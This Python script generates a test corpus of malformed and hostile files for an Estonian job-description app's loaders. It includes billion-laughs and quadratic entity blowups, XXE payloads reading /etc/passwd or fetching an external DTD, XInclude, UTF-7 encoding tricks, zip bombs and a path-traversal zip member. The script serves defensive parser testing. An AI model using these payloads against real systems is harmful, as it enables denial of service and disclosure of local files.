"""Write the corpus of malformed and hostile files in tests/data/hostile/.

Run ``.venv/bin/python -m tests.data.make_hostile`` after a format change; the output is
deterministic and small (every file under 256 KB; most under 10 KB). Cases too big to commit (a 200 MB sparse
file, huge text and attribute nodes, a million elements, zips with thousands of members)
are made at test time by ``large_cases`` below. Every file must be refused by every loader
with a clear message; ``tests/storage/test_hostile_corpus.py`` checks that.
"""

from __future__ import annotations

import codecs
import datetime as dt
import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from lxml import etree

from ametijuhend_desktop import ajx
from ametijuhend_desktop.errors import UserError
from ametijuhend_desktop.library.new_document import new_document
from ametijuhend_desktop.model import Duty, JobDescription, PostKind

HERE = Path(__file__).resolve().parent / "hostile"
NS = ajx.NS
ROOT_OPEN = f'<ametijuhend xmlns="{NS}" version="1">'.encode()
RECOVERY_MAGIC = b"AMETIJUHEND-RECOVERY 1\n"
_ZIP_TIME = (2026, 1, 1, 0, 0, 0)


def base_document() -> JobDescription:
    doc = new_document(PostKind.TOOTAJA, "Näidisamet", "Kati Kask")
    doc.meta.approval.date = dt.date(2026, 3, 1)
    doc.meta.effective_date = dt.date(2026, 3, 2)
    doc.general.job_title = "Peaspetsialist"
    doc.general.extra_rows = []
    doc.duties.items = [Duty("Nõustab kliente, sh:", ["telefonil"], ["Kliendid on nõustatud"])]
    return doc


GOOD = ajx.to_bytes(base_document())
# Refused by the .ajx reader for one reason only, so a renamed file fails every loader.
BAD_KIND = GOOD.replace(b"<kind>tootaja</kind>", b"<kind>kapten</kind>")


def _refused(data: bytes) -> bool:
    try:
        ajx.from_bytes(data)
    except UserError:
        return True
    return False


def _missing_each_element() -> Iterator[tuple[str, bytes]]:
    """The document with each element removed in turn, kept where that makes it invalid."""
    tree = etree.fromstring(GOOD)
    seen: set[str] = set()
    for el in tree.iter():
        if el is tree or not isinstance(el.tag, str):
            continue
        path = "/".join(etree.QName(a).localname for a in list(el.iterancestors())[::-1][1:])
        name = f"{path}/{etree.QName(el).localname}".strip("/")
        if name in seen:
            continue
        seen.add(name)
        copy = etree.fromstring(GOOD)
        target = copy.xpath(f"/a:{'/a:'.join(['ametijuhend', *name.split('/')])}",
                            namespaces={"a": NS})[0]
        target.getparent().remove(target)
        data = etree.tostring(copy, xml_declaration=True, encoding="UTF-8")
        if _refused(data):
            yield f"missing-{name.replace('/', '-')}", data


def _replace(old: bytes, new: bytes) -> bytes:
    assert old in GOOD, old
    return GOOD.replace(old, new, 1)


def ajx_cases() -> Iterator[tuple[str, bytes]]:
    yield "empty", b""
    yield "whitespace-only", b" \n\t\n"
    yield "plain-text", b"See on tavaline tekst, mitte ametijuhend.\n"
    yield "html", b"<!-- x --><html><body><p>Tere</p></body></html>"
    yield "other-xml-root", b'<?xml version="1.0"?><note><to>Mari</to></note>'
    yield "wrong-namespace", GOOD.replace(NS.encode(), b"urn:x-muu:ajx")
    yield "no-namespace", GOOD.replace(f' xmlns="{NS}"'.encode(), b"")
    yield "newer-version", _replace(b'version="1"', b'version="2"')
    yield "huge-version-number", _replace(b'version="1"', b'version="99999999999999999999999"')
    yield "version-zero", _replace(b'version="1"', b'version="0"')
    yield "version-negative", _replace(b'version="1"', b'version="-1"')
    yield "version-word", _replace(b'version="1"', b'version="yks"')
    yield "version-superscript-digit", _replace(b'version="1"', 'version="²"'.encode())
    yield "version-arabic-indic-digit", _replace(b'version="1"', 'version="٢"'.encode())
    yield "version-missing", _replace(b' version="1"', b"")
    yield "truncated-half", GOOD[: len(GOOD) // 2]
    yield "truncated-one-byte-short", GOOD.rstrip()[:-1]
    yield "truncated-in-utf8-char", GOOD[: GOOD.index("ü".encode()) + 1]
    yield "invalid-utf8", _replace("Nõustab".encode(), b"N\xf5ustab")
    yield "windows-1257", GOOD.decode().encode("cp1257", "replace")
    yield "utf16-le-bom", codecs.BOM_UTF16_LE + GOOD.decode().encode("utf-16-le")
    yield "utf16-be-no-bom", GOOD.decode().encode("utf-16-be")
    yield "utf32", GOOD.decode().encode("utf-32")
    yield "nul-bytes-in-text", _replace(b"Peaspetsialist", b"Peas\x00petsialist")
    yield "nul-bytes-at-end", GOOD + b"\x00" * 64
    yield "control-char-raw", _replace(b"Peaspetsialist", b"Peas\x0cpetsialist")
    yield "lone-surrogate-encoded", _replace(b"Peaspetsialist", b"Peas\xed\xa0\x80petsialist")
    yield "char-code-out-of-range", _replace(b"<job-title>Peaspetsialist",
                                             b'<job-title>Peas<char code="110000"/>petsialist')
    yield "char-code-not-hex", _replace(b"<job-title>Peaspetsialist",
                                        b'<job-title>Peas<char code="zz"/>petsialist')
    yield "billion-laughs", (
        b'<?xml version="1.0"?>\n<!DOCTYPE ametijuhend [\n <!ENTITY a "aaaaaaaaaa">\n'
        + b"".join(f' <!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n'.encode()
                   for i in range(9))
        + b"]>\n" + ROOT_OPEN + b"&j;</ametijuhend>\n")
    yield "quadratic-blowup", (
        b'<?xml version="1.0"?>\n<!DOCTYPE ametijuhend [<!ENTITY x "' + b"x" * 20000 + b'">]>\n'
        + ROOT_OPEN + b"&x;" * 1000 + b"</ametijuhend>\n")
    yield "xxe-file", (b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                       + GOOD.split(b"\n", 1)[1].replace(b"<organisation>N", b"<organisation>&xxe;N"))
    yield "xxe-parameter-entity", (b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY % p SYSTEM '
                                   b'"http://example.invalid/evil.dtd"> %p;]>\n' + ROOT_OPEN + b"</ametijuhend>")
    yield "external-dtd", (b'<?xml version="1.0"?>\n<!DOCTYPE ametijuhend SYSTEM '
                           b'"http://example.invalid/ajx.dtd">\n' + GOOD.split(b"\n", 1)[1])
    yield "doctype-lowercase-spaced", b"<!  doctype ametijuhend>\n" + GOOD.split(b"\n", 1)[1]
    yield "xinclude", _replace(b"<organisation>", b'<organisation><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>')
    yield "processing-instruction-stylesheet", (b'<?xml version="1.0"?>\n<?xml-stylesheet href="http://example.invalid/x.xsl"?>\n'
                                                + GOOD.split(b"\n", 1)[1].replace(b"<meta>", b"<meta><evil/>"))
    yield "deep-nesting", ROOT_OPEN + b"<a>" * 6000 + b"</a>" * 6000 + b"</ametijuhend>"
    yield "deep-nesting-unclosed", ROOT_OPEN + b"<a>" * 20000
    yield "wide-unknown-elements", _replace(b"<meta>", b"<meta>" + b"<x/>" * 10000)
    yield "huge-attribute-name", _replace(b'version="1"', b"a" * 40000 + b'="1" version="1"')
    yield "many-attributes", _replace(b'version="1"', b" ".join(b'a%d="1"' % i for i in range(3000)) + b' version="1"')
    yield "many-namespaces-unknown-elements", _replace(b"<meta>", b"".join(b'<n%d:x xmlns:n%d="urn:n%d"/>' % (i, i, i) for i in range(1500)) + b"<meta>")
    yield "kind-unknown", _replace(b"<kind>tootaja</kind>", b"<kind>kapten</kind>")
    yield "kind-empty", _replace(b"<kind>tootaja</kind>", b"<kind/>")
    yield "cefr-unknown", _replace(b'level="C1"', b'level="D9"')
    yield "role-unknown", _replace(b'role="employer"', b'role="boss"')
    yield "included-not-boolean", _replace(b'<purpose included="true">', b'<purpose included="jah">')
    yield "language-position-negative", _replace(b'position="2"', b'position="-5"')
    yield "language-position-word", _replace(b'position="2"', b'position="kaks"')
    yield "date-february-30", _replace(b"2026-03-01", b"2026-02-30")
    yield "date-words", _replace(b"2026-03-01", b"eile")
    yield "date-year-zero", _replace(b"2026-03-01", b"0000-01-01")
    yield "date-with-time", _replace(b"2026-03-01", b"2026-03-01T10:00:00")
    yield "date-timezone", _replace(b"2026-03-01", b"2026-03-01+02:00")
    yield "date-estonian-format", _replace(b"2026-03-01", b"01.03.2026")
    yield "date-huge-year", _replace(b"2026-03-01", b"99999-03-01")
    yield "duplicate-meta", _replace(b"<general>", b"<meta><kind>ametnik</kind></meta><general>")
    yield "elements-reordered", _replace(b"<meta>", b"<general/><meta>")
    yield "text-where-element-expected", _replace(b"<meta>", b"<meta>vaba tekst")
    yield "cdata-with-markup", _replace(b"<organisation>", b"<organisation><![CDATA[</organisation>]]><x/>")
    yield "unclosed-comment", GOOD + "<!-- lõpeta".encode()
    yield "two-roots", GOOD + ROOT_OPEN + b"</ametijuhend>"
    yield "docx-renamed-to-ajx", _docx_with_item(BAD_KIND)
    yield "gzip-compressed", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 40
    yield from _encoding_cases()
    yield "pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
    yield from _missing_each_element()


def _utf7(text: str) -> bytes:
    """``text`` with its markup written the way UTF-7 writes "<" and ">"."""
    return text.encode("utf-7").replace(b"<", b"+ADw-").replace(b">", b"+AD4-")


def _encoding_cases() -> Iterator[tuple[str, bytes]]:
    """Declarations the parser would honour where a byte scan sees nothing (issue 15)."""
    body = GOOD.decode().split("?>", 1)[1]
    entity = '<!DOCTYPE ametijuhend [<!ENTITY x "xxxxxxxxxx">]>'
    yield "utf7-internal-entity", b'<?xml version="1.0" encoding="UTF-7"?>' + _utf7(entity + body)
    yield "utf7-declared", b'<?xml version="1.0" encoding="UTF-7"?>' + body.encode("utf-7")
    yield "latin1-declared-on-utf8", b"<?xml version='1.0' encoding='ISO-8859-1'?>" + body.encode()
    yield "ebcdic-declared", b'<?xml version="1.0" encoding="IBM037"?>' + body.encode()
    yield "utf16-bom-declares-utf7", codecs.BOM_UTF16_LE + (
        '<?xml version="1.0" encoding="UTF-7"?>' + body).encode("utf-16-le")
    yield "utf16-bom-internal-entity", codecs.BOM_UTF16_LE + (
        '<?xml version="1.0" encoding="UTF-16"?>' + entity + body).encode("utf-16-le")
    yield "utf8-bom-declares-utf16", codecs.BOM_UTF8 + b'<?xml version="1.0" encoding="UTF-16"?>' + body.encode()


# --- .docx -------------------------------------------------------------------------------


def _zip(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, _ZIP_TIME), data, compress_type=compression)
    return out.getvalue()


_CT = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
       b'<Default Extension="xml" ContentType="application/xml"/>'
       b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
       b'officedocument.wordprocessingml.document.main+xml"/></Types>')
_RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
         b'officeDocument" Target="word/document.xml"/></Relationships>')
_DOC = (b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>{content}</w:t></w:r></w:p></w:body></w:document>")


def _docx_with_item(item: bytes, extra: list[tuple[str, bytes]] | None = None) -> bytes:
    return _zip([("[Content_Types].xml", _CT), ("_rels/.rels", _RELS), ("word/document.xml", _DOC),
                 ("customXml/item1.xml", item), *(extra or [])])


def _patch_headers(data: bytes, flag: int = 0, method: int | None = None) -> bytes:
    """Set a flag bit or the compression method in every local and central header."""
    out = bytearray(data)
    for signature, flag_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        at = out.find(signature)
        while at >= 0:
            out[at + flag_at] |= flag
            if method is not None:
                out[at + method_at : at + method_at + 2] = method.to_bytes(2, "little")
            at = out.find(signature, at + 4)
    return bytes(out)


def _corrupt_deflate(data: bytes, only: str | None = None) -> bytes:
    """Every deflate stream (or ``only`` that member's) broken in its middle (the headers
    and sizes stay right)."""
    out = bytearray(data)
    for info in zipfile.ZipFile(io.BytesIO(data)).infolist():
        if only is not None and info.filename != only:
            continue
        start = info.header_offset + 30 + len(info.filename.encode())
        for offset in range(start + 2, start + max(info.compress_size - 2, 3)):
            out[offset] = 0xFF
    return bytes(out)


def docx_cases() -> Iterator[tuple[str, bytes]]:
    yield "encrypted-flag", _patch_headers(_docx_with_item(BAD_KIND), flag=0x1)
    yield "deflate64-method", _patch_headers(_docx_with_item(BAD_KIND), method=9)
    yield "corrupt-deflate", _corrupt_deflate(_docx_with_item(BAD_KIND))
    # Our data intact, the visible text's stream broken: found by the zip fuzzer.
    yield "text-corrupt-deflate-data-intact", _corrupt_deflate(_docx_with_item(GOOD),
                                                               only="word/document.xml")
    yield "item-utf7-entity", _docx_with_item(dict(_encoding_cases())["utf7-internal-entity"])
    yield "document-xml-utf7-doctype", _zip([
        ("[Content_Types].xml", _CT), ("_rels/.rels", _RELS),
        ("word/document.xml", b'<?xml version="1.0" encoding="UTF-7"?>'
         + _utf7("<!DOCTYPE w [<!ENTITY x 'y'>]>") + _DOC.split(b"?>", 1)[1])])
    yield "not-a-zip", b"See ei ole Wordi fail.\n"
    yield "empty", b""
    yield "zip-header-only", b"PK\x03\x04" + b"\x00" * 26
    yield "truncated-zip", _docx_with_item(GOOD)[:-200]
    yield "truncated-zip-half", _docx_with_item(GOOD)[: len(_docx_with_item(GOOD)) // 2]
    yield "empty-zip", _zip([])
    yield "zip-bomb-item", _docx_with_item(b"<" + b"a" * (40 * 1024 * 1024))
    yield "zip-bomb-document", _zip([("[Content_Types].xml", _CT), ("_rels/.rels", _RELS),
                                     ("word/document.xml", b" " * (220 * 1024 * 1024))])
    yield "no-ajx-item", _zip([("[Content_Types].xml", _CT), ("_rels/.rels", _RELS), ("word/document.xml", _DOC)])
    yield "item-billion-laughs", _docx_with_item(dict(ajx_cases())["billion-laughs"])
    yield "item-xxe", _docx_with_item(dict(ajx_cases())["xxe-file"])
    yield "item-newer-version", _docx_with_item(_replace(b'version="1"', b'version="9"'))
    yield "item-wrong-namespace", _docx_with_item(GOOD.replace(NS.encode(), b"urn:x-muu"))
    yield "item-truncated", _docx_with_item(GOOD[:-300])
    yield "item-missing-meta", _docx_with_item(dict(_missing_each_element())["missing-meta"])
    yield "document-xml-doctype", _zip([("[Content_Types].xml", _CT), ("_rels/.rels", _RELS),
                                        ("word/document.xml", b"<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + _DOC)])
    yield "path-traversal-member", _docx_with_item(BAD_KIND, [("../../../tmp/ametijuhend-evil.txt", b"x")])
    yield "no-content-types", _zip([("_rels/.rels", _RELS), ("word/document.xml", _DOC)])
    yield "stored-not-deflated", _zip([("[Content_Types].xml", b"<Types/>")], zipfile.ZIP_STORED)
    yield "ajx-renamed-to-docx", BAD_KIND


def recovery_cases() -> Iterator[tuple[str, bytes]]:
    head = b'{"original": "/home/mari/dok.ajx", "title": "x", "saved_at": "2026-11-23T10:00:00+00:00"}\n'
    yield "magic-only", RECOVERY_MAGIC
    yield "no-magic", BAD_KIND
    yield "header-not-json", RECOVERY_MAGIC + b"{original: x}\n" + GOOD
    yield "header-array", RECOVERY_MAGIC + b"[1,2,3]\n" + GOOD
    yield "header-deeply-nested", RECOVERY_MAGIC + b"[" * 30000 + b"]" * 30000 + b"\n" + GOOD
    yield "header-too-long", RECOVERY_MAGIC + b'{"x": "' + b"a" * 70000 + b'"}\n' + GOOD
    yield "header-invalid-utf8", RECOVERY_MAGIC + b'{"title": "\xff\xfe"}\n' + GOOD
    yield "header-types-wrong", RECOVERY_MAGIC + b'{"original": 5, "saved_at": [], "pid": "x", "base": 7}\n' + GOOD[:100]
    yield "body-empty", RECOVERY_MAGIC + head
    yield "body-billion-laughs", RECOVERY_MAGIC + head + dict(ajx_cases())["billion-laughs"]
    yield "body-truncated", RECOVERY_MAGIC + head + GOOD[:-100]
    yield "body-newer-version", RECOVERY_MAGIC + head + _replace(b'version="1"', b'version="3"')


def large_cases(folder: Path) -> Iterator[tuple[Path, Callable[[], None]]]:
    """Cases made at test time, too big to commit: (path, function that writes it).

    All are refused, except ``valid-*`` ones, which must load within the same bounds."""

    def sparse() -> None:
        with (folder / "sparse-200mb.ajx").open("wb") as handle:
            handle.seek(200 * 1024 * 1024 - 1)
            handle.write(b"\0")

    def huge_text() -> None:
        (folder / "huge-text-node.ajx").write_bytes(
            _replace(b"<organisation>N", b"<organisation>" + b"x" * (20 * 1024 * 1024) + b"N"))

    def huge_attribute() -> None:
        (folder / "huge-attribute.ajx").write_bytes(
            _replace(b'version="1"', b'a="' + b"x" * (12 * 1024 * 1024) + b'" version="1"'))

    def million_elements() -> None:
        (folder / "million-elements.ajx").write_bytes(
            _replace(b"<substituted-by/>", b"<substituted-by>" + b"<position/>" * 2_800_000 + b"</substituted-by>"))

    def just_under_limit_astral() -> None:
        # One emoji makes a decoded str 4 bytes a character; the rest is ASCII text.
        (folder / "astral-31mb.ajx").write_bytes(
            _replace(b"<organisation>N", "<organisation>😀".encode() + b"y" * (31 * 1024 * 1024) + b"N"))

    def valid_astral() -> None:
        # Not hostile, just the worst a valid file can be: ~29 MB of text in 4-byte form.
        doc = base_document()
        doc.purpose.paragraphs = ["😀" + "y" * (7 * 1024 * 1024) for _ in range(4)]
        (folder / "valid-astral-29mb.ajx").write_bytes(ajx.to_bytes(doc))

    def many_members() -> None:
        (folder / "many-members.docx").write_bytes(
            _docx_with_item(BAD_KIND, [(f"word/media/m{i}.xml", b"") for i in range(20000)]))

    yield folder / "sparse-200mb.ajx", sparse
    yield folder / "huge-text-node.ajx", huge_text
    yield folder / "huge-attribute.ajx", huge_attribute
    yield folder / "million-elements.ajx", million_elements
    yield folder / "astral-31mb.ajx", just_under_limit_astral
    yield folder / "many-members.docx", many_members
    yield folder / "valid-astral-29mb.ajx", valid_astral


def main() -> None:
    HERE.mkdir(exist_ok=True)
    for old in HERE.iterdir():
        old.unlink()
    groups = [("ajx", ".ajx", ajx_cases()), ("docx", ".docx", docx_cases()),
              ("recovery", ".ajr", recovery_cases())]
    count = 0
    for prefix, suffix, cases in groups:
        for name, data in cases:
            assert len(data) < 256 * 1024, (name, len(data))
            (HERE / f"{prefix}-{name}{suffix}").write_bytes(data)
            count += 1
    print(f"{count} files in {HERE}")


if __name__ == "__main__":
    main()
